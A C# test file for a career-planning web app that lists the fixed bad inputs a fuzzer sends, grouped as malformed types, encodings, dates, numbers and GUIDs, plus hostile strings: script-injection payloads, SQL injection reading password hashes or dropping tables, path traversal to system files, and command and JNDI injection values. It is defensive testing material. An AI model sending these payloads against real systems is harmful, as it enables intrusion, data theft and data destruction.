namespace CareerPlanner.Tests.Security;

/// <summary>
/// The fixed bad values the fuzzer sends, by category: wrong types, control characters, invalid
/// UTF-8 and broken escapes (already percent-encoded), bad enums, impossible dates, out-of-range
/// numbers, malformed GUIDs, very long names, HTML and script, path traversal, SQL-ish and
/// template-ish strings. <see cref="FuzzValues"/> mixes them with seeded random ones.
/// </summary>
internal static class FuzzTexts
{
    public static readonly string[] WrongTypes =
    [
        "abc", "true", "false", "null", "undefined", "{}", "[]", "[1,2]", "{\"a\":1}", "1.5", "0x10", "1e3", "١٢٣", "½", "Ⅻ", "12abc",
        "abc12", "--1", "+-1", " ", "\t", "", "00000000001", "on", "off", "yes", "no", "TRUE", "True ", "✓", "true,false", "𝟙𝟚𝟛",
        "System.Object", "object Object", "()", "0.", "1 2", "\"1\"", "'1'",
    ];

    public static readonly string[] Controls =
    [
        .. Enumerable.Range(0, 0x20).Select(c => ((char)c).ToString()),
        "\u007f", .. Enumerable.Range(0x80, 0x20).Select(c => ((char)c).ToString()),
        "\u2028", "\u2029", "\ufeff", "\u200b", "\u200e", "\u202e", "\ufffe", "\uffff", "\ufffd", "a\0b", new string('\0', 100), "\r\n\r\n",
        "line1\nline2", "\u001b[31mred\u001b[0m", "\ud800", "\udc00", "a\ud800b", "\udfff\ud800", "name\0.txt", "\0<script>",
    ];

    public static readonly string[] InvalidUtf8 =
    [
        "%FF", "%FE", "%FF%FE", "%FE%FF", "%C0%AF", "%C0%80", "%C1%BF", "%E0%80%AF", "%F0%80%80%AF", "%F8%88%80%80%80", "%FC%84%80%80%80%80",
        "%ED%A0%80", "%ED%BF%BF", "%ED%A0%80%ED%B0%80", "%C3", "%E2%82", "%80", "%BF", "%C3%28", "%A0%A1", "%E2%28%A1", "%F0%28%8C%BC",
        "%F4%90%80%80", "%EF%BF%BE", "a%FFb", "%", "%%", "%2", "%G1", "%zz", "%u0041", "%uD800", "%00", "%0", "+", "%2B", "%25", "%25FF",
        "%%FF", "%E2%80%AE", "%C0%BCscript%C0%BE", "%2e%2e%2f", "%EF%BB%BF", "%EF%BB%BF1", "1%00", "%0D%0ASet-Cookie:+x=1", "%F5%80%80%80",
        "%C2", "%E0%A0", "%F0%90%80", "%FF%FF%FF%FF", "&", "=", "==", "&&", "a=b&c", "%3D%26",
    ];

    public static readonly string[] Enums =
    [
        "0", "-1", "6", "7", "99", "255", "256", "2147483647", "-2147483648", "1,2", "1, 2", "Novice,Expert", "Expert|Novice", "NotAKind",
        "novice", "NOVICE", " Expert", "Expert ", "Days7", "Never", "Year", "Other", "Done", "Dropped", "GrowInCurrentJob", "Skill", "High",
        "Course", "PerformanceReview", "SelfAssessment", "ProgressReview", "0x1", "1.0", "1e0", "+1", "01", "١", "Days7,Never", "365",
        "-2147483649", "4294967296", "Days0", "None", "Unknown", "InProgress,Done",
    ];

    // The ends of the calendar first: adding a day, a month or a year to them overflows.
    public static readonly string[] Dates =
    [
        "9999-12-31", "0001-01-01", "2026-02-30", "99999-01-01", "0000-00-00", "yesterday", "9999-12-30", "0001-01-02", "10000-01-01",
        "2026-02-29", "2025-02-29", "2028-02-29", "0001-01-00", "-0001-01-01", "2026-13-01", "2026-00-10", "2026-12-32", "2026-1-1", "26-12-01", "2026/12/01", "01/12/2026",
        "12/31/2026", "31/12/2026", "31.12.2026", "2026-12-01T00:00", "2026-12-01T25:61", "2026-12-01Z", "2026-12-01 ", " 2026-12-01",
        "2026-12-01\0", "today", "tomorrow", "now", "1 Jan 2026", "January 1, 2026", "1e10", "1767225600", "2026-W01-1",
        "2026-001", "+002026-01-01", "2026-12-01/2027-01-01", "1900-01-01", "1752-09-10", "2038-01-19", "2106-02-07", "3000-01-01",
        "1969-12-31", "1016-11-29", "29 Nov 2026", "2026-11-29", "2026-11-28", "2026-11-30", "2016-11-28",
        "2036-11-29", "12/13/2026", "2026-12-01T00:00:00+14:00", "Sat, 01 Jan 2000 00:00:00 GMT",
    ];

    public static readonly string[] Numbers =
    [
        "79228162514264337593543950335", "-1", "2147483647", "1e309", "-79228162514264337593543950335", "2147483648", "NaN", "0", "1e28",
        "-2147483648", "-1e309", "1e308", "Infinity", "-Infinity", "∞", "-2147483649", "9223372036854775808", "18446744073709551616",
        "79228162514264337593543950336",
        "-79228162514264337593543950336", "0.0000000000000000000000000001", "0.00000000000000000000000000001", "1e-400", "4.9E-324",
        "1,5", "1.5", "1.005", "1 000", "1_000", "1'000", "1.000,5", "0.1e1", ".5", "5.", "-.5", "+5", "--5", "5-", "5e", "0x1A", "0b101",
        "1/2", "100%", "101", "100.0001", "-0.0", "1e2", "10000000", "10000001", "1e7", "99999999999999999999.99", "3.4028235E+38", "١٠٠",
        "5 hours", "€5", "$5", "-100", "-0.01", "7.9228162514264337593543950335E+28", "0.5", "99.999", "100", "-101",
    ];

    public static readonly string[] Guids =
    [
        "00000000-0000-0000-0000-000000000000", "not-a-guid", "{00000000-0000-0000-0000-000000000000}", "(00000000-0000-0000-0000-000000000000)",
        "0000000000000000000000000000000", "00000000-0000-0000-0000-0000000000000", "ZZZZZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZZZZZZZZZ",
        "12345678-1234-1234-1234-1234567890ab", "12345678123412341234123456789012", "{0x12345678,0x1234,0x1234,{0x12,0x34,0x12,0x34,0x56,0x78,0x90,0xab}}",
        "12345678-1234-1234-1234-1234567890ab-", " 12345678-1234-1234-1234-1234567890ab", "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "g2345678-1234-1234-1234-1234567890ab", "-", "{}", "12345678-1234-1234-1234",
        "12345678-1234-1234-1234-1234567890ab\0", "12345678-1234-1234-1234-1234567890ab,12345678-1234-1234-1234-1234567890ac",
    ];

    public static readonly string[] LongNames =
    [
        new('A', 121), new('A', 1_000), new('A', 10_000), new('A', 100_000), new('é', 121), string.Concat(Enumerable.Repeat("😀", 121)),
        string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 50)), new('W', 2_001), new('x', 20_001), new('x', 5_001), new('x', 81), new('x', 255),
        "a@" + new string('b', 250) + ".com", new('x', 129), "e" + new string('\u0301', 1_000), new('x', 80), new('x', 120), new('x', 2_000),
        new('x', 20_000), string.Concat(Enumerable.Repeat("ab ", 7_000)),
    ];

    public static readonly string[] Html =
    [
        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "javascript:alert(1)", "[click](javascript:alert(1))", "![x](javascript:alert(1))", "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;script&gt;", "&#0;", "&#x0;",
        "&amp;", "\" onmouseover=\"alert(1)", "{{7*7}}", "${7*7}", "@(1+1)", "@DateTime.Now", "<%= 7*7 %>", "#{7*7}",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<form action=//evil.example><button>x</button></form>",
        "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<img src=x:x onerror=alert(1)//",
        "**bold** _it_ `code` <b>b</b>", "```\n<script>\n```", "| a | b |\n|---|---|\n| <script> | x |", "> quote\n\n# h1", "[x]: javascript:alert(1)",
        "<details open ontoggle=alert(1)>", "data:text/html,<script>alert(1)</script>", "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<<script>script>alert(1)<</script>/script>", "\\\"><script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    ];

    public static readonly string[] PathTraversal =
    [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\System32", "....//....//etc/passwd", "..%2f..%2f",
        "%2e%2e%2f", "\\\\evil\\share", "file:///etc/passwd", "/m/../plans/1", "//evil.example/x", "http://evil.example", "/plans/1/delete",
        "~/App_Data/careerplanner.db", "App_Data/careerplanner.db", "NUL", "CON", "aux.txt", ". ", "..", "/", "\\",
    ];

    public static readonly string[] Sql =
    [
        "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE Plans; --", "\"; DROP TABLE \"Plans\"; --", "1; DELETE FROM AspNetUsers",
        "' UNION SELECT PasswordHash FROM AspNetUsers --", "1' AND randomblob(1000000000)--", "%' --", "'||(SELECT sqlite_version())||'",
        "1 OR 1=1", "admin'--", "') OR ('a'='a", "\\'", "''", "'", "\"", "`", "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "json_extract('{}', '$')",
        "$..*", "$.Skills[0]", "\"}],\"x\":[{\"", "%", "_", "1 AND 1=2", "' AND 1=(SELECT COUNT(*) FROM sqlite_master) --",
    ];

    public static readonly string[] Misc =
    [
        "{0}", "{0:N}", "{", "}", "{{", "%s%s%s%s", "%n", "%x", "\\u0000", "\\", "\\\\", "$(whoami)", "`id`", "|| ls", "${jndi:ldap://x/a}",
        "İ", "ı", "ß", "ﬁ", "Ａ", "\u00a0", "  lots   of   spaces  ", "\n", "\r", "\r\n", "😀", "👍🏽", "\u0301", "ǅ", "मनीष", "中文", "עברית",
        "العربية", "a@b", "@", "a@b@c", "\"a\"@example.com", "a@[127.0.0.1]", "a@example.com\nBcc: x@example.com", "🙂@example.com",
    ];

    public static readonly (string Name, IReadOnlyList<string> Values)[] Categories =
    [
        ("wrong type", WrongTypes), ("control", Controls), ("enum", Enums), ("date", Dates), ("number", Numbers), ("guid", Guids),
        ("long", LongNames), ("html", Html), ("traversal", PathTraversal), ("sql", Sql), ("misc", Misc),
    ];
}
